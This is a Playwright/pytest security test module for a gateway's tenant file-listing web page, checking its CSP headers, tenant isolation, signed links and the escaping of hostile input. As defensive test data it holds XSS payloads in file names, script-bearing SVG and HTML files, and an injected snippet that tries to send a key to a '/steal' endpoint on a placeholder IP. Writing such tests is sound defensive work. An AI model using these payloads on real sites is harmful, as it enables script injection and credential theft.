"""The tenants' web page (``/ui``) in a real headless Chromium, against a real gateway.

Debian's ``chromium`` (installed by ``scripts/install-system-deps.sh``) is driven by Playwright
for Python: one browser for the module, a fresh context (no storage, no cookies) per test. The
gateway runs on a real server in front of the session's emulator; tenant A's files come from
a real code-interpreter run (a PNG and a CSV the model's code wrote), harvested by the gateway.
The attacker's files (hostile names, an SVG and an HTML file with script, a "PNG" that is
markup) are stored the way the harvester stores them.

Screenshots go to ``test-results/ui/`` (override: ``CIGATE_TEST_RESULTS``); the path is printed.
"""

from __future__ import annotations

import asyncio
import os
import re
import unicodedata
from collections.abc import AsyncIterator, Iterator
from dataclasses import dataclass
from pathlib import Path
from typing import Any
from urllib.parse import quote

import httpx2
import pytest

from cigate.emulator.server import ServerHandle
from cigate.emulator.settings import EmulatorSettings
from cigate.gateway.webpage import CSP
from cigate.storage.blobs import open_blob_store
from cigate.storage.metadata import MetadataStore
from cigate.testing.plugin import RunningEmulator, current_mode
from tests.gateway.conftest import live_settings, make_backend
from tests.gateway.harness import Tenant
from tests.gateway.live import CODE_TOOL, LiveGateway, add_tenant, code_input, start_gateway
from tests.names import HOSTILE_PATHS, shown

pytestmark = [pytest.mark.sandbox, pytest.mark.filterwarnings("ignore::DeprecationWarning")]

CHROMIUM = "/usr/bin/chromium"
FLAGS = [
    "--headless",
    "--no-sandbox",
    "--disable-gpu",
    "--disable-quic",
    "--no-first-run",
    "--disable-background-networking",
    "--disable-component-update",
    "--disable-sync",
]
SHOTS = Path(os.environ.get("CIGATE_TEST_RESULTS", "test-results")).resolve() / "ui"

#: The cell the model's code runs: a real PNG (a gradient, zlib by hand) and a CSV.
CELL = r"""
import struct, zlib
w, h = 96, 64
raw = b"".join(b"\x00" + bytes(v for x in range(w) for v in (x * 255 // w, y * 255 // h, 160))
               for y in range(h))
def chunk(kind, data):
    return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))
png = (b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", struct.pack(">IIBBBBB", w, h, 8, 2, 0, 0, 0))
       + chunk(b"IDAT", zlib.compress(raw)) + chunk(b"IEND", b""))
open("/mnt/data/chart.png", "wb").write(png)
rows = ["region,quarter,revenue"] + [f"r{i},Q{i % 4 + 1},{1000 + 37 * i}" for i in range(40)]
open("/mnt/data/table.csv", "w").write("\n".join(rows) + "\n")
"""

#: What an Assistants run's code writes: a JSON summary.
JSON_CELL = """
import json
summary = {"rows": 40, "regions": ["r0", "r1"], "total": 65860}
json.dump(summary, open("/mnt/data/summary.json", "w"))
"""

#: Names an attacker's code gives its files: every name of tests/names.py and markup.
XSS_NAMES = [
    "<img src=x onerror=window.__pwned=1;alert(1)>.png",
    '"><script>window.__pwned=1;alert(1)</script>.csv',
    "javascript:window.__pwned=1;alert(1)",
    "<svg onload=window.__pwned=1;alert(1)>.txt",
    "{{constructor.constructor('window.__pwned=1')()}}.json",
]
SVG = (
    b'<svg xmlns="http://www.w3.org/2000/svg" onload="window.__pwned=1;alert(1)">'
    b"<script>window.__pwned=1;alert(1)</script></svg>"
)
HTML = b"<html><body><script>window.__pwned=1;alert(1)</script><img src=x onerror=alert(1)>"
HOSTILE_CSV = b'<img src=x onerror="window.__pwned=1">,"<script>alert(1)</script>"\nx,y\n'


@dataclass
class World:
    gw: LiveGateway
    a: Tenant
    b: Tenant
    h: Tenant  # the attacker's own tenant, holding the hostile files
    png: dict[str, Any]
    csv: dict[str, Any]
    png_bytes: bytes
    csv_bytes: bytes
    hostile: list[str]
    summary: dict[str, Any]  # a JSON file an Assistants run wrote


def _visible(name: str) -> str:
    """How the page must show a name (the rule of ``visible()`` in app.js, written again)."""
    return "".join(
        f"[U+{ord(c):04X}]" if unicodedata.category(c) in ("Cc", "Cf", "Zl", "Zp") else c
        for c in name
    )


def _require_chromium() -> None:
    if Path(CHROMIUM).exists():
        return
    reason = f"{CHROMIUM} is missing (scripts/install-system-deps.sh installs Debian's chromium)"
    if os.environ.get("CIGATE_REQUIRE_SUITES"):
        pytest.fail(reason, pytrace=False)
    pytest.skip(reason)


@pytest.fixture(scope="module")
def browser() -> Iterator[Any]:
    _require_chromium()
    from playwright.sync_api import sync_playwright

    with sync_playwright() as playwright:
        launched = playwright.chromium.launch(executable_path=CHROMIUM, args=FLAGS)
        try:
            yield launched
        finally:
            launched.close()


def _store(database: str, blobs_url: str, tenant: Tenant, files: list[tuple[str, bytes, str]]):
    """Stored rows, as the harvester leaves them, for (name, bytes, content type) each."""

    async def put() -> None:
        async with await MetadataStore.open(database) as meta:
            blobs = open_blob_store(blobs_url)
            try:
                for i, (name, data, ctype) in enumerate(files):
                    row = await meta.upsert_file(
                        tenant.id,
                        kind="container",
                        upstream_file_id=f"cfile_hostile{i:04d}",
                        container_id="cntr_hostile",
                        response_id=None,
                        filename=name,
                        origin="listing",
                    )
                    await meta.claim_file(row.id, "test", 600)

                    async def chunks(data: bytes = data) -> AsyncIterator[bytes]:
                        yield data

                    info = await blobs.put_stream(chunks(), expected_size=len(data))
                    await meta.mark_stored(row.id, info.sha256, info.size, ctype)
            finally:
                await blobs.close()

    asyncio.run(put())


@pytest.fixture(scope="module")
def world(
    request: pytest.FixtureRequest,
    tmp_path_factory: pytest.TempPathFactory,
    emulator_server: ServerHandle,
    emulator_settings: EmulatorSettings,
) -> Iterator[World]:
    emulator = RunningEmulator(
        handle=emulator_server, api_key=emulator_settings.api_key, mode=current_mode()
    )
    backend = make_backend("sqlite-disk", request, tmp_path_factory.mktemp("web"))
    settings = live_settings(emulator, backend)
    gw = start_gateway(settings, add_tenant(settings.database_url, "a"))
    try:
        response = gw.openai().responses.create(
            model="gpt-4.1", input=code_input(CELL), tools=CODE_TOOL
        )
        files = {f["filename"].rsplit("/", 1)[-1]: f for f in gw.harvested(response.id, at_least=2)}
        png, csv = files["chart.png"], files["table.csv"]
        http = gw.http()
        png_bytes = http.get(f"/files/{png['id']}/content").content
        csv_bytes = http.get(f"/files/{csv['id']}/content").content
        assert png_bytes.startswith(b"\x89PNG")
        assert csv_bytes.startswith(b"region,")
        # An Assistants run's file: the origin names the run and the Files-API id.
        client = gw.openai()
        assistant = client.beta.assistants.create(
            model="gpt-4o-mini", tools=[{"type": "code_interpreter"}]
        )
        thread = client.beta.threads.create(
            messages=[{"role": "user", "content": code_input(JSON_CELL)}]
        )
        run = client.beta.threads.runs.create_and_poll(
            thread_id=thread.id, assistant_id=assistant.id
        )
        client.beta.threads.messages.list(thread_id=thread.id)  # the gateway sees the citation
        [summary] = gw.harvested(run.id, at_least=1)
        h = gw.add_tenant("attacker")
        hostile = [shown(p) for p in HOSTILE_PATHS] + XSS_NAMES
        payloads = [(name, b"x", "text/plain") for name in hostile] + [
            ("evil.svg", SVG, "image/svg+xml"),
            ("evil.html", HTML, "text/html"),
            ("markup-not-a.png", HTML, "image/png"),
            ("hostile-cells.csv", HOSTILE_CSV, "text/csv"),
            ("plain.tsv", b"name\tvalue\n<b>x</b>\t1\n", "application/octet-stream"),
        ]
        _store(settings.database_url, settings.blobs_url, h, payloads)
        yield World(
            gw, gw.tenant, gw.add_tenant("b"), h, png, csv, png_bytes, csv_bytes, hostile, summary
        )
    finally:
        gw.close()
        emulator.close()


@pytest.fixture
def page(browser: Any, world: World) -> Iterator[Any]:
    """A new context (empty storage, no cookies) and page; dialogs are recorded, dismissed."""
    context = browser.new_context(base_url=world.gw.url, accept_downloads=True)
    tab = context.new_page()
    tab.dialogs = []
    tab.requests = []
    tab.on("dialog", lambda d: (tab.dialogs.append(d.message), d.dismiss()))
    tab.on("request", lambda r: tab.requests.append(r))  # noqa: PLW0108 (needs a function)
    try:
        yield tab
    finally:
        context.close()


def _shot(page: Any, name: str) -> Path:
    SHOTS.mkdir(parents=True, exist_ok=True)
    path = SHOTS / f"{name}.png"
    page.screenshot(path=str(path), full_page=True)
    print(f"\nscreenshot: {path}")
    return path


def _sign_in(page: Any, key: str) -> None:
    page.goto("/ui")
    page.fill("#key", key)
    page.click("#signin button[type=submit]")


def _row(page: Any, name: str) -> Any:
    return page.locator("#rows > tr", has=page.locator("td.name", has_text=name))


def _wait_previews(page: Any) -> None:
    page.wait_for_function(
        "() => [...document.querySelectorAll('#rows td.preview')]"
        ".every(td => td.textContent !== '…' || td.querySelector('img'))"
    )


def test_the_page_and_its_assets_carry_the_strict_policy_and_no_data(world: World) -> None:
    with httpx2.Client(base_url=world.gw.url, trust_env=False) as http:
        for path, kind in (("/ui", "text/html"), ("/ui/app.js", "text/javascript")):
            answer = http.get(path)
            assert answer.status_code == 200
            assert answer.headers["content-type"].startswith(kind)
            assert answer.headers["content-security-policy"] == CSP
            assert answer.headers["x-content-type-options"] == "nosniff"
            assert answer.headers["referrer-policy"] == "no-referrer"
            assert answer.headers["x-frame-options"] == "DENY"
            assert "set-cookie" not in answer.headers
        assert http.get("/ui/app.css").headers["content-type"].startswith("text/css")
        script = http.get("/ui/app.js").text
        for asset in ("/ui", "/ui/app.js", "/ui/app.css"):
            assert world.png["id"].encode() not in http.get(asset).content
    # The script puts nothing on the page as markup (the policy is the second line).
    for sink in ("innerHTML", "outerHTML", "insertAdjacentHTML", "document.write", "eval("):
        assert sink not in script, sink


def test_without_a_key_the_page_shows_the_sign_in_form_and_asks_for_nothing(
    page: Any, world: World
) -> None:
    page.goto("/ui")
    page.wait_for_selector("#signin:not([hidden])")
    assert page.locator("#files").is_hidden()
    assert page.locator("#rows > tr").count() == 0
    asked = [r.url for r in page.requests if "/ui" not in r.url]
    assert asked == []
    _shot(page, "sign-in")


def test_a_tenant_signs_in_previews_downloads_erases_and_signs_out(page: Any, world: World) -> None:
    _sign_in(page, world.a.key)
    page.wait_for_selector("#rows > tr")
    _wait_previews(page)
    png_row, csv_row = _row(page, "chart.png"), _row(page, "table.csv")
    assert png_row.count() == 1
    assert csv_row.count() == 1
    assert page.locator("#signin").is_hidden()
    assert page.locator("#signout").is_visible()
    # Newest first: the listing's order is the page's order.
    ids = page.eval_on_selector_all("#rows > tr", "rows => rows.map(r => r.dataset.id)")
    listed = world.gw.http().get("/files?order=desc").json()["data"]
    assert ids == [f["id"] for f in listed]
    # The PNG preview is a decoded image from a blob: URL; the CSV's first rows are text cells.
    img = png_row.locator("td.preview img")
    assert img.get_attribute("src").startswith("blob:")
    assert img.evaluate("i => [i.complete, i.naturalWidth, i.naturalHeight]") == [True, 96, 64]
    cells = csv_row.locator("td.preview td").all_text_contents()
    assert cells[:6] == ["region", "quarter", "revenue", "r0", "Q1", "1000"]
    assert "Response " + world.png["response_id"] in png_row.locator("td.origin").inner_text()
    assert "Container " + world.png["container_id"] in png_row.locator("td.origin").inner_text()
    assert csv_row.locator("td.num").first.inner_text() == f"{len(world.csv_bytes)} B"
    assert png_row.locator("td.state-stored").count() == 1
    # The Assistants run's JSON: its origin names the run and the file; pretty-printed.
    json_row = _row(page, "summary.json")
    origin = json_row.locator("td.origin").inner_text()
    assert f"Assistants run {world.summary['response_id']}" in origin
    assert f"Files API {world.summary['upstream_file_id']}" in origin
    assert world.summary["upstream_file_id"].startswith("assistant-")
    assert '"regions": [\n    "r0",' in json_row.locator("td.preview pre").inner_text()
    _shot(page, "signed-in-list")
    png_row.locator("td.preview").screenshot(path=str(SHOTS / "preview-image.png"))
    csv_row.locator("td.preview").screenshot(path=str(SHOTS / "preview-table.png"))

    with page.expect_download() as info:
        csv_row.get_by_role("button", name="Download").click()
    download = info.value
    assert download.suggested_filename == "table.csv"
    assert Path(download.path()).read_bytes() == world.csv_bytes

    # Erase the PNG: two clicks (no dialog), the row goes, the gateway no longer has it.
    erase = png_row.get_by_role("button", name=re.compile("Erase"))
    erase.click()
    assert png_row.count() == 1  # the first click only asks
    _shot(page, "erase-confirm")
    erase.click()
    page.wait_for_selector("#status:has-text('Erased chart.png')")
    assert _row(page, "chart.png").count() == 0
    assert world.gw.http().get(f"/files/{world.png['id']}").status_code == 404
    assert page.dialogs == []

    # The key was only ever a header: never in a URL, never a cookie.
    assert all(world.a.key not in r.url for r in page.requests)
    assert page.context.cookies() == []
    assert all(
        r.headers.get("authorization") == f"Bearer {world.a.key}"
        for r in page.requests
        if "/files" in r.url
    )

    page.click("#signout")
    page.wait_for_selector("#signin:not([hidden])")
    assert page.evaluate("() => sessionStorage.length") == 0
    assert page.locator("#rows > tr").count() == 0
    assert page.locator("img").count() == 0


def test_a_wrong_key_shows_the_error_and_is_not_kept(page: Any, world: World) -> None:
    _sign_in(page, "cgk_" + "0" * 40)
    page.wait_for_selector("#status:not([hidden])")
    assert "did not accept this key" in page.inner_text("#status")
    assert page.evaluate("() => sessionStorage.length") == 0
    assert page.locator("#files").is_hidden()
    _shot(page, "wrong-key")


def test_tenant_b_sees_only_its_own_empty_list_never_a_file_of_a(page: Any, world: World) -> None:
    _sign_in(page, world.b.key)
    page.wait_for_selector("#empty:not([hidden])")
    html = page.content()
    assert world.csv["id"] not in html
    assert "table.csv" not in html
    # B asking for A's file by id gets the unknown-id answer, in the browser as anywhere.
    status = page.evaluate(
        """async ([id, key]) => (await fetch(`/files/${id}/content`,
            {headers: {Authorization: `Bearer ${key}`}})).status""",
        [world.csv["id"], world.b.key],
    )
    assert status == 404
    _shot(page, "empty-state")


@pytest.mark.parametrize(
    ("fault", "expected"),
    [
        pytest.param(
            {"status": 429, "headers": {"retry-after": "7"}, "body": "{}"},
            "Too many requests: the gateway asks to slow down. Try again in 7 s.",
            id="rate-limited",
        ),
        pytest.param(None, "The gateway cannot be reached (network error)", id="network-down"),
    ],
)
def test_a_rate_limit_or_a_network_failure_is_told_plainly(
    page: Any, world: World, fault: dict[str, Any] | None, expected: str
) -> None:
    def answer(route: Any) -> None:
        if fault is None:
            route.abort("connectionrefused")
        else:
            route.fulfill(content_type="application/json", **fault)

    page.route(re.compile(r".*/files\?.*"), answer)
    _sign_in(page, world.a.key)
    page.wait_for_selector("#status:not([hidden])")
    assert expected in page.inner_text("#status")
    assert page.evaluate("() => sessionStorage.length") == 0


def test_hostile_file_names_and_contents_run_no_script_and_show_as_text(
    page: Any, world: World
) -> None:
    _sign_in(page, world.h.key)
    page.wait_for_selector("#rows > tr")
    while page.locator("#more").is_visible():
        before = page.locator("#rows > tr").count()
        page.click("#more")
        page.wait_for_function(f"() => document.querySelectorAll('#rows > tr').length > {before}")
    _wait_previews(page)
    assert page.evaluate("() => window.__pwned") is None
    assert page.dialogs == []
    names = page.locator("#rows td.name").all_text_contents()
    expected = [
        *world.hostile,
        "evil.svg",
        "evil.html",
        "markup-not-a.png",
        "hostile-cells.csv",
        "plain.tsv",
    ]
    # Every name shown as stored (text, not markup), each once; invisible characters (bidi
    # overrides, zero-width, controls, line breaks) spelt out, so no name passes for another.
    assert sorted(names) == sorted(_visible(n) for n in expected)
    assert "[U+202E]gnp.exe" in names
    assert "new[U+000A]line.txt" in names
    assert page.evaluate("() => window.__pwned") is None
    assert page.dialogs == []
    # No preview renders the SVG, the HTML or the markup named .png; no frame, object, script.
    assert page.locator("#rows img").count() == 0
    for name in ("evil.svg", "evil.html", "markup-not-a.png"):
        assert _row(page, name).locator("td.preview").inner_text().startswith("no preview")
    assert page.locator("iframe, object, embed, svg, #rows script").count() == 0
    # A CSV's cells are text too.
    cells = _row(page, "hostile-cells.csv").locator("td.preview td").all_text_contents()
    assert cells[0] == '<img src=x onerror="window.__pwned=1">'
    assert cells[1] == "<script>alert(1)</script>"
    tsv = _row(page, "plain.tsv").locator("td.preview td").all_text_contents()
    assert tsv == ["name", "value", "<b>x</b>", "1"]
    # Downloading the SVG saves it; the page never opens it.
    with page.expect_download() as info:
        _row(page, "evil.svg").get_by_role("button", name="Download").click()
    assert Path(info.value.path()).read_bytes() == SVG
    assert page.evaluate("() => window.__pwned") is None
    assert page.dialogs == []
    _shot(page, "hostile-names")


def test_the_policy_stops_markup_that_reached_the_page_anyway(page: Any, world: World) -> None:
    """The second line, as Chromium enforces it: if a bug ever let markup in, its inline
    handlers and scripts would not run, and nothing could be sent or loaded elsewhere."""
    page.goto("/ui")
    page.wait_for_selector("#signin:not([hidden])")
    page.evaluate(
        """() => {
        window.__seen = [];
        document.addEventListener("securitypolicyviolation",
            (e) => window.__seen.push(e.effectiveDirective));
        const box = document.createElement("div");
        document.body.append(box);
        box.insertAdjacentHTML("beforeend",
            '<img src="ui/none.png" onerror="window.__pwned=1;alert(1)">' +
            '<script>window.__pwned=2</script><a href="javascript:alert(3)" id="js">x</a>');
        const script = document.createElement("script");
        script.textContent = "window.__pwned = 4";
        document.body.append(script);
        new Image().src = "http://198.51.100.1/steal?key=k";
        fetch("http://198.51.100.1/steal", {method: "POST", body: "k"}).catch(() => {});
    }"""
    )
    page.click("#js")
    page.wait_for_function("() => window.__seen.length >= 5")
    seen = set(page.evaluate("() => window.__seen"))
    assert {"script-src-attr", "script-src-elem", "img-src", "connect-src"} <= seen, seen
    assert page.evaluate("() => window.__pwned") is None
    assert page.dialogs == []
    stolen = [r for r in page.requests if "198.51.100.1" in r.url]
    assert stolen, "the attempts were made"
    assert all(r.failure in ("csp", "net::ERR_BLOCKED_BY_CSP") for r in stolen), stolen


def test_a_signed_link_opens_one_file_without_a_key(page: Any, world: World) -> None:
    made = world.gw.http().post(f"/files/{world.csv['id']}/links", json={"expires_in": 600})
    url = made.json()["url"]
    target = url.split("/links/", 1)[1]
    page.goto(f"/ui#link={quote('links/' + target, safe='')}")
    page.wait_for_selector(".single h2")
    assert page.inner_text(".single h2") == "table.csv"
    page.wait_for_selector(".single .preview td")
    assert page.locator(".single .preview td").first.inner_text() == "region"
    with page.expect_download() as info:
        page.get_by_role("button", name="Download").click()
    assert Path(info.value.path()).read_bytes() == world.csv_bytes
    assert all("authorization" not in r.headers for r in page.requests)
    _shot(page, "signed-link")

    # A link of another origin is not followed: the page says so and asks nobody.
    page.goto("/ui#link=" + quote("https://198.51.100.1/links/lnk_x?expires=1&signature=0"))
    page.wait_for_selector("#status:not([hidden])")
    assert page.inner_text("#status") == "This is not a download link of this gateway."
    assert not any("198.51.100.1" in r.url for r in page.requests)

    tampered = url[:-4] + ("0000" if not url.endswith("0000") else "1111")
    page.goto("/ui")
    page.fill("#key", tampered)
    page.click("#signin button[type=submit]")
    page.wait_for_selector("#status:not([hidden])")
    assert page.inner_text("#status") == "This download link is invalid, expired or revoked."


@pytest.mark.parametrize(
    ("required", "outcome"),
    [("1", pytest.fail.Exception), ("", pytest.skip.Exception)],
    ids=["ci-fails", "developer-run-skips"],
)
def test_a_missing_chromium_fails_the_run_when_suites_are_required(
    monkeypatch: pytest.MonkeyPatch, tmp_path: Path, required: str, outcome: type[BaseException]
) -> None:
    monkeypatch.setattr(f"{__name__}.CHROMIUM", str(tmp_path / "no-chromium"))
    monkeypatch.setenv("CIGATE_REQUIRE_SUITES", required)
    with pytest.raises(outcome, match="no-chromium is missing"):
        _require_chromium()
